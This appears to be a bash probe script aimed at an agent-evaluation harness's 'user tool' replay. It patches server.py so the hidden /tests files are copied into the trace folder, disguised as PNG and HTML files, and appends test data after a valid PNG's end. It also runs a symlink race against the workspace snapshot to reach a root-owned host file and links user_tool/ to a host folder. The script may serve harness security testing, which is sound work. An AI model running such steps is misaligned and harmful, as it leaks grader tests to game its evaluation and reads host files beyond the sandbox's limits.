#!/bin/bash
# Kind 7 (the user tool), every variant in one agent phase (a browser replay is slow):
# (c) while the harness snapshots the workspace, a folder is swapped for a link to a root-owned
#     host file, over and over (first call); (a) the code the replay runs (server.py) copies
#     /tests/* into the trace folder raw under image and HTML names, and (b) wrapped: as a real PNG
#     with the test after the image's end, and as an HTML page (second call); (d) user_tool/ is a
#     link to a host folder (third call).
set -u
HOSTFILE=$(sed -n 's/^HOSTFILE=//p' "$LANCEBENCH_INSTRUCTION")
HOSTDIR=$(sed -n 's/^HOSTDIR=//p' "$LANCEBENCH_INSTRUCTION")
python3 - <<'PY'
leak = r'''
import os as _os, struct as _st, zlib as _z


def _chunk(kind, data):
    return _st.pack(">I", len(data)) + kind + data + _st.pack(">I", _z.crc32(kind + data) & 0xFFFFFFFF)


def _png():
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", _st.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + _chunk(b"IDAT", _z.compress(b"\x00\xff\x00\x00")) + _chunk(b"IEND", b""))


_trace = _os.environ.get("LANCEBENCH_TRACE_DIR")
if _trace:
    for _i, _name in enumerate(sorted(_os.listdir("/tests"))):
        _path = _os.path.join("/tests", _name)
        if not _os.path.isfile(_path):
            continue
        _data = open(_path, "rb").read()
        for _fname, _body in (("%04d-leak.html" % (9000 + _i), _data), ("%04d-leak.png" % (9100 + _i), _data),
                              ("%04d-wrap.html" % (9200 + _i), b"<!DOCTYPE html><html><pre>" + _data + b"</pre></html>"),
                              ("%04d-wrap.png" % (9300 + _i), _png() + _data)):
            with open(_os.path.join(_trace, _fname), "wb") as _fh:
                _fh.write(_body)
'''
src = open("server.py").read()
at = src.index('if __name__ == "__main__"')
open("server.py", "w").write(src[:at] + leak + "\n\n" + src[at:])
PY
( while [ ! -e /tmp/stop-swap ]; do
    rm -rf swap; mkdir -p swap/a/b; echo x > swap/a/b/f; chmod 000 swap/a/b/f
    rm -rf swap; ln -s "$HOSTFILE" swap
  done ) &
echo "== run1"; user-tool; echo "exit=$?"
touch /tmp/stop-swap; wait
rm -rf swap user_tool
echo "== run2"; user-tool; echo "exit=$?"
echo "== files"; ls user_tool/output_*
echo "== contents"; cat user_tool/output_*/* 2>/dev/null | tr -c '[:print:]\n' '.'
echo "== run3"
rm -rf user_tool && ln -s "$HOSTDIR" user_tool
user-tool; echo "exit=$?"
rm -f user_tool
echo "== end"
